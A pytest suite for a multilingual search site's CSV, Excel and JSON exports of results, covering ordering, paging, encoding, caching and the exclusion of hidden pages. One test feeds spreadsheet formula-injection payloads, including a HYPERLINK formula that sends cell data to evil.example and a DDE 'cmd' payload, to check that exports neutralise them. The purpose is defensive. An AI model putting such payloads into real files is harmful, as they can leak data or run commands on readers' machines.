"""Lists of results as files: what is in them, what never is, and what spreadsheets make of it."""

import csv
import io
import json
import zipfile
from datetime import date
from xml.etree import ElementTree

import pytest
from wagtail.models import PageViewRestriction

from home.actions import make_house
from search import queries
from search.actions import ensure_index
from search.documents import Place
from search.engines import get_engine
from search.exports import views
from search.exports.columns import rows
from search.exports.writing import harmless
from search.queries import walk
from search.query import Query
from tests.factories.practices import make_place, make_practice
from tests.search.conftest import thing

pytestmark = pytest.mark.django_db
FORMS = ("csv", "xlsx", "json")
HEADER = [
    "id", "type", "title", "language", "summary", "summary_en", "city", "country", "lat", "lon",
    "themes", "target_groups", "level", "status", "evidence", "cost_band", "start", "end", "lead",
    "licence", "checked", "url",
]  # fmt: skip


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def table(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def cells(response) -> list[dict[str, str]]:
    header, *lines = table(response)
    return [dict(zip(header, line, strict=True)) for line in lines]


def sheet(response) -> list[list[str]]:
    """Read an Excel file's only sheet: text or number of each cell."""
    name = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(io.BytesIO(body(response))) as archive:
        tree = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    assert not list(tree.iter(f"{name}f")), "no formula"
    rows = []
    for row in tree.iter(f"{name}row"):
        rows.append(["".join(cell.itertext()) for cell in row])
    return rows


def test_a_list_is_exported_with_words_and_filters_of_its_address(client, index):
    index(
        thing(1, body="tea", facets={"theme": ("work",)}),
        thing(2, body="tea", facets={"theme": ("housing",)}),
        thing(3, body="milk", facets={"theme": ("work",)}),
    )
    for form in FORMS:
        response = client.get(f"/en/search/results.{form}?q=tea&theme=work")
        assert response["X-Total"] == "1"
        assert response.streaming
        content = body(response)
    assert [one["id"] for one in json.loads(content)["results"]] == ["1"]


def test_the_order_is_that_of_the_page(client, index):
    days = {1: date(2021, 5, 1), 2: date(2023, 5, 1), 3: date(2022, 5, 1)}
    index(*(thing(n, body="tea", newest=days[n], checked=days[4 - n]) for n in days))
    for order in ("newest", "checked", "relevance"):
        page = client.get(f"/en/search/?q=tea&sort={order}").context["results"]
        exported = cells(client.get(f"/en/search/results.csv?q=tea&sort={order}"))
        assert [one["id"] for one in exported] == [str(row.document.id) for row in page.rows]


def test_a_file_holds_every_page_of_the_list_once(client, index, monkeypatch):
    monkeypatch.setattr(queries, "BATCH", 10)
    index(*(thing(n, body="tea " * (n % 3 + 1)) for n in range(1, 36)))
    for question in ("", "?q=tea", "?q=tea&sort=newest"):
        ids = [one["id"] for one in cells(client.get(f"/en/search/results.csv{question}"))]
        assert sorted(ids, key=int) == [str(n) for n in range(1, 36)]


def test_what_is_hidden_while_a_file_is_made_is_left_out(client, index, monkeypatch):
    monkeypatch.setattr(queries, "BATCH", 10)
    index(*(thing(n, newest=date(2020, 1, n)) for n in range(1, 31)))
    lines = client.get("/en/search/results.csv").streaming_content
    next(lines)
    get_engine().delete([f"thing:{n}" for n in range(1, 11)])
    rest = b"".join(lines).decode()
    assert [n for n in range(1, 31) if f'"Thing {n}"' in rest] == list(range(11, 31))


def test_nothing_is_lost_when_places_move_while_a_file_is_made(client, index, monkeypatch):
    monkeypatch.setattr(queries, "BATCH", 10)
    index(*(thing(n, newest=date(2020, 1, n)) for n in range(1, 31)))
    lines = rows(walk(Query(sort="newest"), 100).documents, "en")
    found = [next(lines)["id"] for _ in range(10)]
    get_engine().delete(["thing:30", "thing:29"])
    found += [row["id"] for row in lines]
    assert found == [str(n) for n in range(30, 0, -1)]


def test_csv_has_a_mark_of_its_encoding_a_header_and_quoted_cells(client, index):
    index(thing(1, title='Škofja "Loka", Αθήνα', language="sl"))
    response = client.get("/en/search/results.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response["Content-Disposition"].startswith('attachment; filename="crocevia-search-en-2')
    content = body(response)
    assert content.startswith(b'\xef\xbb\xbf"id","type",')
    assert '"Škofja ""Loka"", Αθήνα"'.encode() in content


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)", "\t=1", "\r=1", "＝1+1", " =1+1", "plain;=1+1", "plain\n=1+1", "plain;\t@SUM(1)",
    ],
)  # fmt: skip
def test_no_cell_of_csv_is_a_formula_whatever_divides_it(client, index, text):
    index(thing(1, title=text, summary=text, city="=Roma"))
    lines = body(client.get("/en/search/results.csv")).decode("utf-8-sig")
    for divider in ",;\t":
        for line in csv.reader(io.StringIO(lines), delimiter=divider):
            assert not [cell for cell in line if cell.strip()[:1] in tuple("=+@＝")]
    for cell in cells(client.get("/en/search/results.csv"))[0].values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_plain_texts_and_numbers_stay_as_they_are(client, index):
    assert harmless("Cost: -5 %, a+b = c; see x@y.example") == (
        "Cost: -5 %, a+b = c; see x@y.example"
    )
    index(thing(1, place=Place("A Coruña", "ES", 43.36, -8.41)))
    row = cells(client.get("/en/search/results.csv"))[0]
    assert (row["lat"], row["lon"], row["country"]) == ("43.36", "-8.41", "ES")


def test_excel_keeps_texts_as_texts_and_speaks_the_readers_language(client, index):
    index(thing(1, title="=1+1", facets={"theme": ("housing", "work")}, checked=date(2024, 2, 29)))
    response = client.get("/it/search/results.xlsx?theme=housing")
    assert response["Content-Type"].endswith("spreadsheetml.sheet")
    header, row = sheet(response)
    assert len(header) == 22
    assert "=1+1" in row
    assert "Casa; Lavoro" in row
    assert "45351" in row, "the day as a date"


def test_json_names_themes_by_identifier_and_label(client, index, settings):
    index(thing(1, facets={"theme": ("housing",)}, checked=date(2024, 2, 29)))
    data = json.loads(body(client.get("/it/search/results.json")))
    assert (data["total"], data["limit"], data["language"]) == (1, 10_000, "it")
    row = data["results"][0]
    assert list(row) == HEADER
    assert row["themes"] == [{"id": "housing", "label": "Casa"}]
    assert (row["checked"], row["lat"], row["target_groups"]) == ("2024-02-29", None, [])
    assert row["url"] == f"{settings.SITE_URL}/it/things/1/"


def test_an_empty_list_is_a_file_with_a_header_alone(client, index):
    index(thing(1, body="tea"))
    assert table(client.get("/en/search/results.csv?q=zzzz")) == [HEADER]
    assert len(sheet(client.get("/en/search/results.xlsx?q=zzzz"))) == 1
    assert json.loads(body(client.get("/en/search/results.json?q=zzzz")))["results"] == []


def test_a_longer_list_is_cut_and_says_so(client, index, monkeypatch):
    monkeypatch.setattr(views, "MOST_ROWS", 5)
    monkeypatch.setattr("search.templatetags.exports.MOST_ROWS", 5)
    index(*(thing(n) for n in range(8)))
    for form in FORMS:
        response = client.get(f"/en/search/results.{form}")
        assert response["X-Total"] == "8"
        assert "first-5-of-8" in response["Content-Disposition"]
        body(response)
    assert len(cells(client.get("/en/search/results.csv"))) == 5
    assert "holds the first 5 results" in client.get("/en/search/").content.decode()


def test_the_page_offers_files_of_just_this_list(client, index):
    index(thing(1, body="tea", facets={"theme": ("work",)}))
    html = client.get("/en/search/?q=tea&theme=work&theme=nonsense&sort=newest").content.decode()
    for form in (*FORMS, "atom"):
        assert f'href="/en/search/results.{form}?q=tea&amp;theme=work&amp;sort=newest"' in html


@pytest.mark.parametrize(
    "question",
    ["q=" + "x" * 10_000, "q=%22%00%1f%22%28", "theme=nonsense&city=%00", "sort=x&page=99&any=7",
     "q=" + "tea+OR+" * 500, "theme=" + "&theme=".join(map(str, range(500))), "q=%ff%fe"],
)  # fmt: skip
def test_bad_addresses_get_a_file_all_the_same(client, index, question):
    index(thing(1, body="tea"))
    for form in FORMS:
        response = client.get(f"/en/search/results.{form}?{question}")
        assert response.status_code == 200
        body(response)


def test_unknown_forms_and_kinds_are_not_found(client, index):
    index(thing(1))
    for path in ("results.pdf", "nothing/results.csv", "results.csvx", "practice/results.csv"):
        assert client.get(f"/en/search/{path}").status_code == 404
    assert client.post("/en/search/results.csv").status_code == 405


def test_without_an_index_readers_get_a_page_that_says_so(client, things):
    for form in (*FORMS, "atom"):
        response = client.get(f"/it/search/results.{form}")
        assert response.status_code == 503
        assert response["Retry-After"] == "60"
        assert '<html lang="it"' in response.content.decode()


def test_files_are_kept_nowhere(client, index, settings):
    settings.RESPONSE_CACHE_SECONDS = 300
    index(thing(1, title="Before"))
    for form in FORMS:
        response = client.get(f"/en/search/results.{form}")
        assert "no-store" in response["Cache-Control"]
        body(response)
    get_engine().put([thing(1, title="Afterwards")])
    assert cells(client.get("/en/search/results.csv"))[0]["title"] == "Afterwards"


@pytest.mark.parametrize("count", [1, 3])
@pytest.mark.parametrize("form", FORMS)
def test_rows_cost_no_query(client, index, django_assert_num_queries, form, count):
    index(*(thing(n, facets={"theme": ("work",)}) for n in range(count)))
    client.get("/en/search/?q=warm")
    with django_assert_num_queries(0):
        body(client.get(f"/en/search/results.{form}"))


@pytest.fixture
def house(settings, tmp_path, transactional_db):
    """A house with an index of its own: an index outlives the transaction of a test."""
    settings.DATA_DIR = tmp_path
    house = make_house()
    ensure_index()
    return house


def test_a_practice_fills_every_column(client, house, settings):
    make_practice(
        house=house, title="Un ghișeu", summary="Răspunsuri.", summary_en="Answers.",
        place=make_place("Cluj-Napoca", "RO", lat=46.77, lon=23.6), lead_name="City", level="local",
        status="ongoing", evidence="evaluated", cost_band="10k-50k", start="2018", end="2021-05",
        checked_on=date(2026, 1, 2),
    )  # fmt: skip
    assert cells(client.get("/it/search/practice/results.csv")) == [
        {
            "id": "one-desk", "type": "practice", "title": "Un ghișeu", "language": "ro",
            "summary": "Răspunsuri.", "summary_en": "Answers.", "city": "Cluj-Napoca",
            "country": "RO", "lat": "46.77", "lon": "23.6", "themes": "Casa",
            "target_groups": "Rifugiati", "level": "local", "status": "ongoing",
            "evidence": "evaluated", "cost_band": "10k-50k", "start": "2018", "end": "2021-05",
            "lead": "City", "licence": "CC BY 4.0", "checked": "2026-01-02",
            "url": f"{settings.SITE_URL}/it/library/one-desk/",
        }
    ]  # fmt: skip


def test_the_library_and_the_pages_of_terms_export_their_own_list(client, house):
    make_practice("home", house=house, themes=("housing",))
    make_practice("job", house=house, themes=("work",))
    library = client.get("/en/library/?theme=housing").content.decode()
    assert 'href="/en/search/practice/results.csv?theme=housing"' in library
    term = client.get("/en/concepts/housing/").content.decode()
    assert 'href="/en/search/results.csv?concept=housing"' in term
    for address in ("practice/results.csv?theme=housing", "results.csv?concept=housing"):
        assert [one["id"] for one in cells(client.get(f"/en/search/{address}"))] == ["home"]


@pytest.mark.parametrize("form", [*FORMS, "atom"])
def test_what_is_hidden_is_in_no_file(client, house, form):
    make_practice("draft-desk", house=house, live=False)
    secret = make_practice("secret-desk", house=house)
    gone = make_practice("gone-desk", house=house)
    address = f"/en/search/results.{form}?sort=newest"
    before = client.get(address)
    content = body(before) if before.streaming else before.content
    assert form == "xlsx" or b"secret-desk" in content

    PageViewRestriction.objects.create(page=secret, restriction_type="login")
    gone.unpublish()

    for kind in ("", "practice/"):
        response = client.get(f"/en/search/{kind}results.{form}")
        if form == "xlsx":
            content = repr(sheet(response)).encode()
        else:
            content = body(response) if response.streaming else response.content
        assert b"-desk" not in content


def test_a_restriction_above_hides_from_files_too(client, house):
    practice = make_practice(house=house)
    PageViewRestriction.objects.create(page=practice.get_parent(), restriction_type="login")
    ensure_index()
    response = client.get("/en/search/results.csv")
    assert response["X-Total"] == "0"
    assert table(response) == [HEADER]
